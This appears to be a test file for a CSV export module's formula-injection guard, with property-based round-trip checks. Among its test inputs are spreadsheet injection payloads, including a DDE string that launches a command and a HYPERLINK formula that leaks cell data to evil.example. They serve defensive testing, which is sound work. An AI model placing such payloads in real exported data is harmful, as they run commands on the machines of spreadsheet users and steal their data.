@@ -1,0 +1,143 @@
+// What we write is read back by a parser that is not ours, and looked at as the most careless spreadsheet would.
+
+import fc from 'fast-check';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, test } from 'vitest';
+import {
+  CSV_START,
+  csvRecord,
+  type CsvCell,
+  withFormulaGuard,
+  withoutFormulaGuard,
+} from '../../../worker/domain/csv.ts';
+
+const read = (text: string): string[][] =>
+  parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: true });
+const onceMore = (cell: CsvCell) => (typeof cell === 'string' ? withoutFormulaGuard(cell) : cell);
+
+describe('one record', () => {
+  test.each<[CsvCell[], string]>([
+    [['a', 'b'], '"a","b"\r\n'],
+    [['São Paulo', 'ação'], '"São Paulo","ação"\r\n'],
+    [['he said "no"'], '"he said ""no"""\r\n'],
+    [['one\r\ntwo', 'a,b'], '"one\r\ntwo","a,b"\r\n'],
+    [[null, '', 0], ',"",0\r\n'],
+    [['x', -12_345, 1.5], '"x",-12345,1.5\r\n'],
+  ])('%j', (cells, text) => expect(csvRecord(cells)).toBe(text));
+
+  test.each([Number.NaN, Number.POSITIVE_INFINITY])('%s is a mistake of ours, not a cell', (cell) =>
+    expect(() => csvRecord([cell])).toThrow(RangeError),
+  );
+});
+
+describe('formula guard', () => {
+  test.each([
+    ['=1+1', "'=1+1"],
+    ['+5511987654321', "'+5511987654321"],
+    ['-2+3+cmd|/c calc!A0', "'-2+3+cmd|/c calc!A0"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['=HYPERLINK("http://evil.example?x="&A1)', '\'=HYPERLINK("http://evil.example?x="&A1)'],
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠A1', "'＠A1"],
+    ['  =1', "'  =1"],
+    ['\u00A0=1', "'\u00A0=1"],
+    ['\u200B=1', "'\u200B=1"],
+    ['\uFEFF=1', "'\uFEFF=1"],
+    ['\u0000=1', "'\u0000=1"],
+    ['"=1', '\'"=1'],
+    ["'=1", "''=1"],
+    ['\t=1', "\t'=1"],
+    ['\r=1', "\r'=1"],
+    ['\n\n=1', "\n\n'=1"],
+    ['olá;=1+1', "olá;'=1+1"],
+    ['olá; "=1+1"', 'olá;\' "=1+1"'],
+    ['olá\n@A1', "olá\n'@A1"],
+    ['a\t+1', "a\t'+1"],
+  ])('%j becomes %j', (text, guarded) => expect(withFormulaGuard(text)).toBe(guarded));
+
+  test.each([
+    '',
+    'cliente@onca.example',
+    'a=b',
+    '1-2',
+    'bom dia',
+    '{"a":"=1"}',
+    "it's",
+    'x; y',
+    '...=1',
+    'a, =b',
+    '#1',
+    '(+55) 11',
+  ])('%j is left alone', (text) => expect(withFormulaGuard(text)).toBe(text));
+
+  test('a long text without an end costs time in proportion to its length', () => {
+    const started = performance.now();
+    for (const piece of ['\n', ';', ' ', "'", '\t ', ';"']) withFormulaGuard(piece.repeat(200_000));
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+});
+
+const awkward = fc
+  .array(
+    fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '＝',
+      ';',
+      ',',
+      '"',
+      "'",
+      '\t',
+      '\r',
+      '\n',
+      '\r\n',
+      ' ',
+      '\u200B',
+      '\uFEFF',
+      'a',
+      '1',
+      'ç',
+      '|',
+      '😀',
+    ),
+  )
+  .map((pieces) => pieces.join(''));
+const cell = fc.oneof(awkward, fc.string({ unit: 'binary' }), fc.constant(null), fc.integer());
+
+test('whatever is written is read back, cell by cell', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.array(cell, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 5 }),
+      (rows) => {
+        const back = read(CSV_START + rows.map(csvRecord).join(''));
+        expect(back.map((row) => row.map(onceMore))).toEqual(
+          rows.map((row) => row.map((value) => (value === null ? '' : String(value)))),
+        );
+      },
+    ),
+    { numRuns: 2_000 },
+  );
+});
+
+test('no spreadsheet finds a formula, wherever it thinks that cells start', () => {
+  fc.assert(
+    fc.property(
+      fc.array(fc.oneof(awkward, fc.string({ unit: 'binary' })), { minLength: 1, maxLength: 5 }),
+      (cells) => {
+        const record = csvRecord(cells);
+        const seen = [
+          ...read(record).flat(),
+          ...record.split(/[;\t\r\n]/u),
+          ...cells.flatMap((text) => withFormulaGuard(text).split(/[;\t\r\n]/u)),
+        ];
+        for (const text of seen)
+          expect(text).not.toMatch(/^(?:(?![\t\r\n])[\s\p{Cc}\p{Cf}"])*[=+\-@＝＋－＠]/u);
+      },
+    ),
+    { numRuns: 2_000 },
+  );
+});
